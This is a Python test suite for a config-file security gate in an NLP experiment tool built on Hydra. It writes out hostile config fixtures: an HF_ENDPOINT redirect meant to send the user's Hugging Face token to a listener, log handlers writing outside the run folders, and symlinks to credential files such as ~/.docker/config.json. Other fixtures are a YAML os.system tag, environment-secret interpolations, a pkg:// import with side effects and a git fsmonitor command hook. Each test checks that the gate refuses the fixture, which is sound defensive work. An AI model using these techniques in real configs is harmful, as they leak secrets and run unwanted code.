"""A second hostile tester's escapes through config files (session 16), each as the attacker shipped it: a `-cd`
config dir whose files the gate must read as the files Hydra loads, wherever a sweep or a defaults list brings them
in. Each is refused with one line naming the key (or the link) and the file; the end-to-end case also shows that
nothing was written and nothing sent.
"""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest
import yaml

from nlpexp import NlpexpError
from nlpexp.config import CONFIG_DIR, PROJECT_ROOT
from nlpexp.gate import check_command_line
from tests.test_config_is_data import Listener, _run_py

RUN_PY = str(PROJECT_ROOT / "run.py")


def _write(path: Path, body: dict, package: str | None = "_global_") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text((f"# @package {package}\n" if package else "") + yaml.safe_dump(body))
    return path


def _gate(*argv: str) -> None:
    check_command_line(list(argv), RUN_PY, str(CONFIG_DIR), "config")


def _nested(key: str, value) -> dict:
    """{"a": {"b": value}} for the key "a.b"."""
    head, _, rest = key.partition(".")
    return {head: _nested(rest, value) if rest else value}


def _payload(log: Path, endpoint: str) -> dict:
    """Hydra settings that write outside the run roots and send the person's HF token where the file says."""
    return {"hydra": {"job": {"env_set": {"HF_ENDPOINT": endpoint}},
                      "job_logging": {"handlers": {"pwn": {"class": "logging.FileHandler", "filename": str(log)}},
                                      "root": {"handlers": ["pwn"]}}}}


@pytest.mark.parametrize("params,sweeper", [
    ({"+evilgrp": "choice(x)"}, "nlpexp"),  # a group the composition does not have yet
    ({"+evilgrp": "x"}, "basic"),  # ... as a plain value
    ({"model": "evilm"}, "nlpexp"),  # a plain value is an option too
    ({"model": ["tiny_bert", "evilm"]}, "basic"),  # a list of options, merged by Hydra
    ({"data@task.sts": "choice(evild)"}, "nlpexp"),  # a group under another package
], ids=str)
def test_every_group_value_a_files_sweep_params_give_is_checked(params, sweeper, tmp_path):
    cd = tmp_path / "cd"
    _write(cd / "evilgrp" / "x.yaml", _payload(tmp_path / "OUTSIDE.log", "http://127.0.0.1:9"))
    _write(cd / "model" / "evilm.yaml", {**yaml.safe_load((CONFIG_DIR / "model" / "tiny_bert.yaml").read_text()),
                                         "trust_remote_code": True}, package=None)
    _write(cd / "data" / "evild.yaml", {**yaml.safe_load((CONFIG_DIR / "data" / "stsb.yaml").read_text()),
                                        "root": str(tmp_path / "home")}, package=None)
    _write(cd / "hparams_search" / "h.yaml", {"defaults": [{"override /hydra/sweeper": sweeper}],
                                              "hydra": {"sweeper": {"params": params}}})
    refusal = {"evilgrp": "hydra\\.job\\.env_set\\.HF_ENDPOINT", "model": "model\\.trust_remote_code",
               "data@task.sts": "task\\.sts\\.root"}[next(iter(params)).lstrip("+")]
    with pytest.raises(NlpexpError, match=rf"^{refusal} may not be set by a config file or preset: {cd}/"):
        _gate("-m", "-cd", str(cd), "hparams_search=h")


def test_a_sweep_over_a_new_group_from_a_file_writes_and_sends_nothing(tmp_path, data_root):
    cd, log, listener = tmp_path / "cd", tmp_path / "OUTSIDE.log", Listener()
    _write(cd / "evilgrp" / "x.yaml", _payload(log, listener.url))
    _write(cd / "hparams_search" / "h.yaml", {"defaults": [{"override /hydra/sweeper": "nlpexp"}],
                                              "hydra": {"sweeper": {"n_trials": 1,
                                                                    "params": {"+evilgrp": "choice(x)"}}}})
    done = _run_py(["-m", "-cd", str(cd), "hparams_search=h", "model=tiny_bert", "debug=smoke", "logger=none",
                    f"hydra.sweep.dir={tmp_path / 'sweep'}"], tmp_path, data_root, HF_TOKEN="hf_planted_token_123456")
    lines = [line for line in (done.stdout + done.stderr).splitlines() if line.strip()]
    assert done.returncode == 2 and len(lines) == 1, done.stdout + done.stderr
    assert lines[0].startswith(f"error: hydra.job.env_set.HF_ENDPOINT may not be set by a config file or preset: "
                               f"{cd}/evilgrp/x.yaml"), lines[0]
    assert not log.exists() and not (tmp_path / "sweep").exists()
    assert listener.close() == b""


@pytest.mark.parametrize("choose", [["/model/evil.yaml"], [{"override /model": "evil.yaml"}]], ids=str)
def test_a_defaults_entry_with_the_yaml_suffix_is_checked_as_the_file_hydra_loads(choose, tmp_path):
    """Hydra adds `.yaml` to a name only when it lacks one: the gate read `evil.yaml.yaml`, which a link could make
    look like the project's own file while Hydra loaded `evil.yaml`."""
    cd = tmp_path / "cd"
    _write(cd / "model" / "evil.yaml", {**yaml.safe_load((CONFIG_DIR / "model" / "tiny_bert.yaml").read_text()),
                                        "trust_remote_code": True}, package=None)
    os.symlink(CONFIG_DIR / "model" / "tiny_bert.yaml", cd / "model" / "evil.yaml.yaml")
    _write(cd / "experiment" / "e.yaml", {"defaults": choose})
    with pytest.raises(NlpexpError, match=rf"^model\.trust_remote_code may not be set .*{cd}/model/evil\.yaml sets"):
        _gate("-cd", str(cd), "experiment=e")


@pytest.mark.parametrize("target", ["outside", "project"])
def test_a_foreign_config_file_may_not_link_out_of_its_folder(target, tmp_path):
    """A link to a file the person can read (~/.docker/config.json) would copy it into the run's config.yaml and
    trackers; a link into the project's conf/ would pass a foreign name off as the project's file."""
    secret = tmp_path / "home" / ".docker" / "config.json"
    secret.parent.mkdir(parents=True)
    secret.write_text('{"auths": {"registry.example": {"auth": "dXNlcjpwYXNzd29yZA=="}}}')
    cd = tmp_path / "cd"
    (cd / "experiment").mkdir(parents=True)
    linked = secret if target == "outside" else CONFIG_DIR / "model" / "tiny_bert.yaml"
    os.symlink(linked, cd / "experiment" / "e.yaml")
    with pytest.raises(NlpexpError, match=rf"^{cd}/experiment/e\.yaml is a link to {linked}, outside its config dir"):
        _gate("-cd", str(cd), "experiment=e")


@pytest.mark.parametrize("body,key", [
    ({"data": {"label_names": ["entailment", "neutral", "${oc.env:MY_API_TOKEN}"]}}, r"data\.label_names"),
    ({"model": {"random_init": {"note": "${oc.env:MY_API_TOKEN}"}}}, r"model\.random_init\.note"),  # config.json
    ({"seed": "${oc.select:x,${oc.env:MY_API_TOKEN}}"}, "seed"),  # inside another resolver
    ({"d": "env", "note": "${oc.${d}:MY_API_TOKEN}"}, "note"),  # a resolver named through an interpolation
], ids=["label-names", "random-init", "nested", "built-name"])
def test_a_file_may_not_read_the_environment(body, key, tmp_path, monkeypatch):
    """label_names went into nli_head.json / classifier.json and random_init into config.json, where no redaction
    looks: the environment is the person's, so a file's interpolations refer to settings (and a date) only."""
    monkeypatch.setenv("MY_API_TOKEN", "supersecret123")
    _write(tmp_path / "cd" / "experiment" / "e.yaml", body)
    with pytest.raises(NlpexpError, match=rf"^{key} may not be set by a config file or preset: .* interpolation"):
        _gate("-cd", str(tmp_path / "cd"), "experiment=e")


def test_a_files_interpolations_of_settings_and_dates_pass(tmp_path):
    _write(tmp_path / "cd" / "experiment" / "e.yaml", {"note": "${model.name} ${now:%Y} ${oc.select:seed,1}",
                                                       "trainer": {"max_steps": "${debug_steps}"}, "debug_steps": 3})
    _gate("-cd", str(tmp_path / "cd"), "experiment=e")


@pytest.mark.parametrize("key", ["logger.tensorboard.log_dir", "hydra.run.dir", "task.cache_dir"])
def test_a_path_a_file_names_may_not_lead_out_of_its_root_through_a_link(key, tmp_path, monkeypatch):
    """A run dir someone handed over, unpacked into the runs dir, may hold a link out of it: the path is checked
    where it leads, not as text."""
    runs, cache, outside = tmp_path / "runs", tmp_path / "cache", tmp_path / "outside"
    for folder in (runs / "handed", cache, outside):
        folder.mkdir(parents=True)
    os.symlink(outside, runs / "handed" / "tb")
    os.symlink(outside, cache / "mine")
    monkeypatch.setenv("NLPEXP_RUNS_DIR", str(runs))
    monkeypatch.setenv("NLPEXP_CACHE_DIR", str(cache))
    value = {"task.cache_dir": "${paths.cache_dir}/mine/x"}.get(key, "${paths.runs_dir}/handed/tb")
    body = _nested(key, value)
    defaults = [{"override /logger": "tensorboard"}] if key.startswith("logger.") else []
    _write(tmp_path / "cd" / "experiment" / "e.yaml", {"defaults": defaults, **body})
    with pytest.raises(NlpexpError, match=rf"^{key} may not be set .* it leads to {outside}.* through a link"):
        _gate("-cd", str(tmp_path / "cd"), "experiment=e")
    (runs / "handed" / "tb").unlink()  # the same path without the link is fine
    (cache / "mine").unlink()
    _gate("-cd", str(tmp_path / "cd"), "experiment=e")


def test_a_foreign_primary_config_is_refused_its_search_path_before_hydra_imports_what_it_names(tmp_path,
                                                                                                  monkeypatch):
    """Hydra imports a `pkg://` entry's package while it composes (`pkg://antigravity` opens a browser): a saved run
    dir's config.yaml (-cp) that adds one is refused before the composition."""
    marker, code = tmp_path / "MARKER", tmp_path / "code"
    code.mkdir()
    (code / "side_effect_pkg").mkdir()
    (code / "side_effect_pkg" / "__init__.py").write_text(f"open({str(marker)!r}, 'w').close()\n")
    monkeypatch.syspath_prepend(str(code))
    primary = tmp_path / "run" / ".hydra"
    _write(primary / "config.yaml", {"defaults": ["_self_"], "hydra": {"searchpath": ["pkg://side_effect_pkg"]}},
           package=None)
    with pytest.raises(NlpexpError, match=rf"^hydra\.searchpath may not be set .*{primary}/config\.yaml sets it"):
        _gate("-cp", str(primary), "-cn", "config")
    assert not marker.exists()


@pytest.mark.parametrize("text,problem", [
    ("seed: 1\nseed: 2\n", "found duplicate key seed"),
    ("x: !!python/object/apply:os.system [touch marker]\n", "could not determine a constructor for the tag"),
    ("x: " + "[" * 3000 + "]" * 3000 + "\n", "exceeded maximum nesting depth"),
], ids=["duplicate-key", "python-tag", "deep"])
def test_a_file_that_is_not_plain_yaml_ends_the_command_with_one_line_naming_it(text, problem, tmp_path):
    from nlpexp.boundary import error_line, exit_code

    preset = tmp_path / "cd" / "experiment" / "e.yaml"
    preset.parent.mkdir(parents=True)
    preset.write_text("# @package _global_\n" + text)
    with pytest.raises(yaml.YAMLError) as caught:
        _gate("-cd", str(tmp_path / "cd"), "experiment=e")
    assert error_line(caught.value).startswith(f"{preset}, line ") and problem in error_line(caught.value)
    assert exit_code(caught.value) == 2


@pytest.mark.parametrize("key,value,ok", [
    ("model.name_or_path", "{tmp}/victim_private", False),  # its tokenizer files were copied into best_model
    ("model.tokenizer", "~/.ssh", False),
    ("loss.decoder_name_or_path", "../../victim", False),
    ("model.name_or_path", "{runs}/2026-12-07/best_model", True),  # a trained run's folder
    ("model.name_or_path", "${paths.runs_dir}/mine/best_model", True),
    ("model.name_or_path", "sentence-transformers/all-MiniLM-L6-v2", True),  # the Hub
    ("model.tokenizer", "bundled:all-MiniLM-L6-v2", True),
    ("model.name_or_path", "registry:mine@best", True),
], ids=str)
def test_a_model_a_file_names_comes_from_the_hub_bundled_the_registry_or_a_run(key, value, ok, tmp_path, monkeypatch):
    runs = tmp_path / "runs"
    runs.mkdir()
    monkeypatch.setenv("NLPEXP_RUNS_DIR", str(runs))
    _write(tmp_path / "cd" / "experiment" / "e.yaml",
           _nested(key, value.replace("{tmp}", str(tmp_path)).replace("{runs}", str(runs))))
    if ok:
        _gate("-cd", str(tmp_path / "cd"), "experiment=e")
    else:
        with pytest.raises(NlpexpError, match=rf"^{key} may not be set .* a file may name a Hub model"):
            _gate("-cd", str(tmp_path / "cd"), "experiment=e")


@pytest.mark.parametrize("sweep,error,refusal", [
    ("shuffle(choice(tiny_bert,evil))", NlpexpError, "model\\.trust_remote_code may not be set"),  # a wrapped choice
    ("range(0,2)", ValueError, "Config group override must be a string"),  # what each trial would have failed with
    ("interval(0,1)", NlpexpError, "Can only enumerate CHOICE and RANGE sweeps"),
], ids=["shuffle", "range", "interval"])
def test_any_sweep_of_a_group_is_listed_or_refused_before_the_sweep(sweep, error, refusal, tmp_path):
    cd = tmp_path / "cd"
    _write(cd / "model" / "evil.yaml", {**yaml.safe_load((CONFIG_DIR / "model" / "tiny_bert.yaml").read_text()),
                                        "trust_remote_code": True}, package=None)
    _write(cd / "hparams_search" / "h.yaml", {"defaults": [{"override /hydra/sweeper": "nlpexp"}],
                                              "hydra": {"sweeper": {"params": {"model": sweep}}}})
    with pytest.raises(error, match=refusal):
        _gate("-m", "-cd", str(cd), "hparams_search=h")


@pytest.mark.parametrize("variable", ["XDG_CONFIG_HOME", "HOME", "GIT_CONFIG_GLOBAL"])
def test_provenance_git_reads_no_config_a_jobs_environment_points_at(variable, tmp_path, monkeypatch):
    """A trial's env_set (or a file that got past the gate) could point git at a config whose core.fsmonitor runs a
    command at `git status`: provenance's git reads the checkout's own config only."""
    from nlpexp.paths import git_state

    marker, home = tmp_path / "MARKER", tmp_path / "home"
    hook = f'[core]\n\tfsmonitor = "touch {marker}; false"\n'
    for config in (home / ".gitconfig", home / "git" / "config", home / "gitconfig"):
        config.parent.mkdir(parents=True, exist_ok=True)
        config.write_text(hook)
    monkeypatch.setenv(variable, str(home / "gitconfig") if variable == "GIT_CONFIG_GLOBAL" else str(home))
    assert git_state()["commit"]  # still read from the checkout
    assert not marker.exists()


@pytest.mark.parametrize("params", [
    {"task": "classification", "data": "imdb", "model": "x"},  # plain values: one trial
    {"task": "choice(sbert_nli,classification)", "data": "imdb", "model": "x"},
], ids=["plain", "choice"])
def test_groups_swept_together_are_checked_in_every_combination(params, tmp_path):
    """model/x.yaml loads zz/<task>.yaml: with the base task (sbert_nli) nothing, with task=classification a file
    that sets env_set and a log file. Each group's values checked on their own would never compose the two."""
    cd = tmp_path / "cd"
    _write(cd / "model" / "x.yaml", {"defaults": ["tiny_bert", {"optional /zz@_global_": "${task}"}, "_self_"]},
           package=None)
    _write(cd / "zz" / "classification.yaml", _payload(tmp_path / "OUTSIDE.log", "http://127.0.0.1:9"))
    _write(cd / "experiment" / "x.yaml", {"defaults": [{"override /hydra/sweeper": "nlpexp"}],
                                          "hydra": {"sweeper": {"params": params}}})
    with pytest.raises(NlpexpError, match=rf"^hydra\.job\.env_set\.HF_ENDPOINT may not be set .*{cd}/zz/classif"):
        _gate("-m", "-cd", str(cd), "experiment=x", "debug=smoke")


def test_a_sweep_of_too_many_combinations_with_foreign_configs_is_refused(tmp_path):
    cd = tmp_path / "cd"
    _write(cd / "experiment" / "x.yaml", {"defaults": [{"override /hydra/sweeper": "nlpexp"}],
                                          "hydra": {"sweeper": {"params": {"model": "glob(*)", "data": "glob(*)"}}}})
    with pytest.raises(NlpexpError, match=r"^this sweep varies data, model together \(\d+ combinations\) with configs "
                                          r"from outside conf/: more than the 64"):
        _gate("-m", "-cd", str(cd), "experiment=x")
    _gate("-m", "hparams_search=model_comparison")  # the project's own configs: each option on its own, as before


@pytest.mark.parametrize("body,key", [
    ({"data": {"label_names": ["${db_password}", "b"]}}, r"data\.label_names"),  # into classifier.json
    ({"note": "${oc.select:db_password,x}"}, "note"),
    ({"model": {"random_init": {"extra": "${creds}"}}}, r"model\.random_init\.extra"),  # a node holding a secret
    ({"data": {"label_names": ["${hydra:job.override_dirname}"]}}, r"data\.label_names"),  # the typed command line
    ({"note": "${hydra:job.env_set}"}, "note"),
], ids=["key", "select", "node", "override-dirname", "env-set"])
def test_a_file_may_not_copy_a_secret_or_the_command_line_where_no_redaction_looks(body, key, tmp_path):
    _write(tmp_path / "cd" / "experiment" / "e.yaml", body)
    with pytest.raises(NlpexpError, match=rf"^{key} may not be set by a config file or preset: "):
        _gate("-cd", str(tmp_path / "cd"), "experiment=e", "+db_password=hunter2secret", "+creds.api_key=abcdefgh12")


def test_a_file_may_read_the_runs_dir_choices_and_job_number_from_hydra(tmp_path):
    _write(tmp_path / "cd" / "experiment" / "e.yaml", {
        "note": "${hydra:runtime.choices.model} ${hydra:job.name} ${model.name}",
        "logger": {"tensorboard": {"log_dir": "${hydra:runtime.output_dir}/tb"}}, "defaults": [
            {"override /logger": "tensorboard"}]})
    _gate("-cd", str(tmp_path / "cd"), "experiment=e", "+db_password=hunter2secret")


def test_a_hub_id_a_file_names_that_is_a_folder_of_the_current_one_is_refused(tmp_path, monkeypatch):
    """transformers loads `victim_private` from ./victim_private when that folder exists: a file's Hub id is a Hub
    id only where it names no folder here."""
    (tmp_path / "cwd" / "victim_private").mkdir(parents=True)
    monkeypatch.chdir(tmp_path / "cwd")
    _write(tmp_path / "cd" / "experiment" / "e.yaml", {"model": {"tokenizer": "victim_private"}})
    with pytest.raises(NlpexpError, match=r"^model\.tokenizer may not be set .* not a folder here"):
        _gate("-cd", str(tmp_path / "cd"), "experiment=e")
    monkeypatch.chdir(tmp_path)
    _gate("-cd", str(tmp_path / "cd"), "experiment=e")  # elsewhere it names the Hub's


@pytest.mark.parametrize("body,key", [
    ({"data": {"label_names": ["${oc.select:'db_password'}", "b"]}}, r"data\.label_names"),  # a quoted key
    ({"k": "db_password", "note": "${oc.select:${k}}"}, "note"),  # a key built by an interpolation
    ({"k": "password", "note": "${oc.select:db_${k}}"}, "note"),
    ({"note": "${oc.select:'creds'}"}, "note"),  # a node holding a secret-named key
    ({"data": {"label_names": [["${db_password}"]]}}, r"data\.label_names"),  # nested lists
], ids=["quoted", "built", "built-part", "quoted-node", "nested"])
def test_a_secret_copied_however_the_interpolation_is_written_is_refused(body, key, tmp_path):
    """What the interpolation resolves to is checked against the secret values, whatever its syntax."""
    _write(tmp_path / "cd" / "experiment" / "e.yaml", body)
    with pytest.raises(NlpexpError, match=rf"^{key} may not be set by a config file or preset: "):
        _gate("-cd", str(tmp_path / "cd"), "experiment=e", "+db_password=hunter2secret", "+creds.api_key=abcdefgh12")


@pytest.mark.parametrize("params,refusal", [
    ({"+hydra[job_logging][handlers][pwn]": "{class:logging.FileHandler,filename:/tmp/x.log}"}, "hydra.job_logging"),
    ({"model[trust_remote_code]": "true"}, "model.trust_remote_code"),
    ({"+model.random_init.note": "choice($\\{oc.env:MY_API_TOKEN\\})"}, "literal values, not interpolations"),
    ({"data.label_names": "[$\\{hydra:job.override_dirname\\},pos]"}, "literal values, not interpolations"),
], ids=["bracket-hydra-key", "bracket-switch", "escaped-env", "escaped-command-line"])
def test_a_files_sweep_parameters_are_read_as_hydra_reads_them(params, refusal, tmp_path):
    """Hydra reads `a[b]` as `a.b` and `$\\{` as `${` in an override: the gate reads a file's sweep keys and values
    the same way."""
    _write(tmp_path / "cd" / "experiment" / "e.yaml", {"defaults": [{"override /hydra/sweeper": "nlpexp"}],
                                                       "hydra": {"sweeper": {"params": params}}})
    with pytest.raises(NlpexpError, match=re.escape(refusal)):
        _gate("-m", "-cd", str(tmp_path / "cd"), "experiment=e")


def test_a_file_may_not_give_positional_arguments_to_a_node_with_restricted_keys(tmp_path):
    """`_args_` would pass a log_dir (or a tracking_uri) by position, where the table's rule for the key never
    looks."""
    _write(tmp_path / "cd" / "experiment" / "e.yaml", {"logger": {"tb": {
        "_target_": "nlpexp.logger.TensorBoardLogger", "_args_": [str(tmp_path / "OUTSIDE_TB")]}}})
    with pytest.raises(NlpexpError, match=r"^logger\.tb\._args_ may not be set .* positional arguments to, a whole "
                                          r"node that holds logger\.\*\."):
        _gate("-cd", str(tmp_path / "cd"), "experiment=e")
